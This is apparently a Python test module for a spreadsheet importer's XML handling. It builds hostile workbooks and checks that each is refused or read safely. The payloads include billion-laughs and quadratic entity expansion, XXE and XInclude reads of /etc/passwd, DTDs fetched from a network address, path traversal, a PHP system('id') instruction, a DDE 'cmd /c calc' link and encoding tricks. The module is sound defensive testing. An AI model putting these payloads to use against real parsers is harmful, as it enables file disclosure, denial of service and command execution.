"""The XML inside: entities, encodings, depth, and parts that point at what is not there."""

from __future__ import annotations

import re

from tests.importers import build

from .case import Net, count, no_plan, reads, refused, tasks
from .raw import (
    DTD,
    GOOD,
    NAMES,
    TASK,
    good,
    number,
    plan,
    relation,
    relationships,
    sheets,
    with_part,
)

LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
)


@refused("doctype", place="第 1 张工作表")
def a_billion_laughs() -> bytes:
    return build.raw(plan(("1", "&a10;", "综合科", "3月底")), before=LAUGHS)


@refused("doctype", place="第 1 张工作表")
def a_quadratic_blowup() -> bytes:
    """30 kB × 250: 5 kB that become 7.5 MB."""
    entity = f"<!DOCTYPE x [<!ENTITY a '{'长' * 10_000}'>]>"
    return build.raw(plan(("1", "&a;" * 250, "综合科", "3月底")), before=entity)


@refused("doctype", place="第 1 张工作表")
def a_file_of_the_server() -> bytes:
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return build.raw(plan(("1", "&e;", "综合科", "3月底")), before=entity)


@refused("doctype", place="xl/workbook.xml")
def a_parameter_entity_that_calls_home() -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{Net.address()}/p.dtd"> %p;]>'
    return with_part("xl/workbook.xml", f"{entity}{build._BOOK}")


@refused("doctype", place="xl/workbook.xml")
def a_dtd_that_calls_home() -> bytes:
    return with_part("xl/workbook.xml", f'<!DOCTYPE x SYSTEM "{Net.address()}/x.dtd">{build._BOOK}')


@refused("doctype", place="xl/styles.xml")
def a_doctype_in_the_styles() -> bytes:
    return with_part("xl/styles.xml", f"{DTD}<styleSheet {NAMES}/>")


@refused("doctype", place="xl/sharedStrings.xml")
def a_doctype_in_the_strings() -> bytes:
    return with_part("xl/sharedStrings.xml", f"{DTD}<sst {NAMES}/>")


@refused("doctype", place="xl/_rels/workbook.xml.rels")
def a_doctype_in_the_relations() -> bytes:
    return with_part("xl/_rels/workbook.xml.rels", DTD + build._RELS)


@refused("doctype", place="docProps/app.xml")
def a_doctype_in_the_properties() -> bytes:
    return with_part("docProps/app.xml", f"{DTD}<a/>")


@refused("doctype", place="xl/drawings/vmlDrawing1.vml")
def a_doctype_in_an_old_drawing() -> bytes:
    return with_part("xl/drawings/vmlDrawing1.vml", f"{DTD}<xml/>")


@refused("doctype", place="xl/drawings/drawing1.xml")
def a_doctype_in_a_drawing() -> bytes:
    return with_part("xl/drawings/drawing1.xml", f"{DTD}<d/>")


@refused("doctype", place="customXml/item1.xml")
def a_doctype_in_small_letters() -> bytes:
    return with_part("customXml/item1.xml", "<! doctype x [<! entity a 'b'>]><a/>")


@refused("doctype", place="[Content_Types].xml")
def a_doctype_in_the_types() -> bytes:
    return with_part("[Content_Types].xml", DTD + build._CONTENT)


@refused("unreadable", "damaged_xml")
def an_entity_nobody_declared() -> bytes:
    return build.raw(plan(("1", "&nobody;", "综合科", "3月底")))


@reads(tasks("AT&T <事项>"))
def entities_of_xml_itself() -> bytes:
    """The benign twin: &amp; and &#60; are no tricks."""
    return build.raw(plan(("1", "AT&amp;T &#60;事项&#x3E;", "综合科", "3月底")))


@refused("odd_encoding", place="xl/styles.xml")
def utf_16() -> bytes:
    return with_part("xl/styles.xml", f"<styleSheet {NAMES}/>".encode("utf-16"))


@refused("odd_encoding", place="第 1 张工作表")
def utf_16_without_a_mark() -> bytes:
    return with_part(
        "xl/worksheets/sheet1.xml", f"<worksheet {NAMES}>{GOOD}</worksheet>".encode("utf-16-le")
    )


@refused("odd_encoding", place="第 1 张工作表")
def utf_7() -> bytes:
    """+ADw- is '<' to who believes the declaration."""
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'
    return with_part("xl/worksheets/sheet1.xml", text)


@refused("odd_encoding", "damaged_xml", "unreadable")
def ebcdic() -> bytes:
    text = f'<?xml version="1.0" encoding="cp037"?><worksheet>{DTD}</worksheet>'
    return with_part("xl/worksheets/sheet1.xml", text.encode("cp037"))


@refused("odd_encoding", place="第 1 张工作表")
def another_encoding_declared() -> bytes:
    text = f'<?xml version="1.0" encoding="GB18030"?><worksheet {NAMES}>{GOOD}</worksheet>'
    return with_part("xl/worksheets/sheet1.xml", text.encode("gb18030"))


@refused("unreadable", "damaged_xml")
def bytes_that_are_no_utf_8() -> bytes:
    body = f"<worksheet {NAMES}>{plan(('1', '坏的字', '综合科', '3月底'))}</worksheet>"
    return with_part("xl/worksheets/sheet1.xml", body.encode().replace("坏".encode(), b"\xff\xfe"))


@reads(tasks(TASK))
def tags_a_million_deep() -> bytes:
    """Nothing here recurses."""
    return build.raw(f"{'<a>' * 1_000_000}{'</a>' * 1_000_000}{GOOD}")


@refused("cell_outside", place="XFD1")
def tags_a_million_deep_with_a_far_cell() -> bytes:
    return build.raw(f"{'<a>' * 500_000}{'</a>' * 500_000}<c r='XFD1'/>{GOOD}")


@reads(tasks(TASK))
def a_million_attributes() -> bytes:
    many = " ".join(f'a{n:x}=""' for n in range(300_000))
    return build.raw(f"<x {many}/>{GOOD}")


@reads(tasks(TASK))
def a_comment_of_ten_megabytes() -> bytes:
    return build.raw(f"<!--{'x' * 10_000_000}-->{GOOD}")


@reads(tasks(TASK))
def cells_in_a_comment() -> bytes:
    """What looks like half a million cells, formulas elsewhere: no pattern runs from each."""
    body = GOOD.replace("</sheetData>", '<row r="9"><c r="A9"><f>1</f></c></row></sheetData>')
    cells = '<c r="A1">' * 300_000
    return build.raw(f"{body}<!--{cells}-->")


@reads(tasks(TASK))
def processing_instructions() -> bytes:
    styled = f'<?xml-stylesheet href="{Net.address()}/x.xsl"?><?php system("id")?>'
    return build.raw(f"{styled * 1000}{GOOD}")


@reads(tasks(TASK))
def an_inclusion() -> bytes:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    return build.raw(f"{include}{GOOD}")


@refused("unreadable", "damaged_xml")
def a_sheet_that_breaks_off() -> bytes:
    return build.raw(f"{GOOD[:-60]}<!--")


@refused("unreadable")
def a_sheet_that_is_not_there() -> bytes:
    parts = {"xl/workbook.xml": build._BOOK, "xl/_rels/workbook.xml.rels": build._RELS}
    return build.zipped(
        parts | {"_rels/.rels": build._ROOT_RELS, "[Content_Types].xml": build._CONTENT}
    )


@refused("unreadable", "not_a_workbook")
def no_relations() -> bytes:
    return with_part("xl/_rels/workbook.xml.rels", "")


@reads(tasks(TASK))
def no_types() -> bytes:
    """Nothing that is read stands there."""
    return with_part("[Content_Types].xml", "<Types/>")


@refused("unreadable")
def a_sheet_that_is_a_file_of_the_server() -> bytes:
    target = relation("rId1", "worksheet", "../../../../etc/passwd")
    return with_part("xl/_rels/workbook.xml.rels", relationships(target))


@refused("unreadable")
def a_sheet_on_another_machine() -> bytes:
    target = relation("rId1", "worksheet", f"{Net.address()}/sheet1.xml", "External")
    return with_part("xl/_rels/workbook.xml.rels", relationships(target))


@reads(no_plan)
def a_sheet_that_is_the_workbook() -> bytes:
    target = relation("rId1", "worksheet", "workbook.xml")
    return with_part("xl/_rels/workbook.xml.rels", relationships(target))


@refused("unreadable")
def relations_without_end() -> bytes:
    """A hundred thousand of them; those that count stand behind."""
    many = "<Relationship Id='x' Type='y' Target='z'/>" * 100_000
    return with_part("xl/_rels/workbook.xml.rels", relationships(many))


@reads(tasks(TASK))
def links_to_other_books() -> bytes:
    home = Net.address()
    link = f'<externalLink {NAMES}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return good(
        **{
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                relation("rId1", "externalLinkPath", f"{home}/book.xlsx", "External")
            ),
            "xl/connections.xml": f'<connections><connection><webPr url="{home}/q"/></connection></connections>',
            "xl/queryTables/queryTable1.xml": "<queryTable/>",
        },
    )


@reads(tasks(TASK))
def pictures_objects_and_pivots() -> bytes:
    """A picture that says it is 50,000 pixels wide, an OLE object, a pivot cache, comments."""
    records = '<x v="1"/>' * 200_000
    picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (50_000).to_bytes(4, "big") * 2 + b"\x08\6\0\0\0"
    return good(
        **{
            "xl/media/image1.png": picture,
            "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
            "xl/pivotCache/pivotCacheRecords1.xml": f"<r>{records}</r>",
            "xl/comments1.xml": f"<comments {NAMES}><t>{'长' * 1000}</t></comments>",
        }
    )


@refused("no_sheets")
def no_sheets_at_all() -> bytes:
    return sheets([])


@refused("too_many_sheets")
def two_hundred_and_fifty_five_sheets() -> bytes:
    return sheets([(f"表{n}", GOOD) for n in range(255)])


@reads(count(50))
def fifty_sheets() -> bytes:
    """The benign twin."""
    return sheets([(f"表{n}", GOOD) for n in range(50)])


@reads(tasks(TASK))
def sheets_of_the_same_name() -> bytes:
    """Excel could not; the first counts twice or both are read, but nothing breaks."""
    return sheets([("计划", GOOD), ("说明", plan(header=("说明",)))])


@reads(no_plan)
def a_style_nobody_knows() -> bytes:
    return build.raw(plan(header=(number(5, 9999), number(6, 70_000))))


@refused("unreadable")
def a_string_nobody_knows() -> bytes:
    return build.raw(plan(('<c r="@" t="s"><v>99999</v></c>', TASK, "综合科", "3月底")))


@reads(tasks(TASK))
def another_prefix() -> bytes:
    """Every name with a prefix: a legitimate spelling that patterns do not know."""
    body = re.sub(r"<(/?)(\w)", r"<\1x:\2", f"<worksheet>{GOOD}</worksheet>")
    return with_part(
        "xl/worksheets/sheet1.xml",
        body.replace("<x:worksheet", f"<x:worksheet {NAMES.replace('xmlns', 'xmlns:x')}", 1),
    )
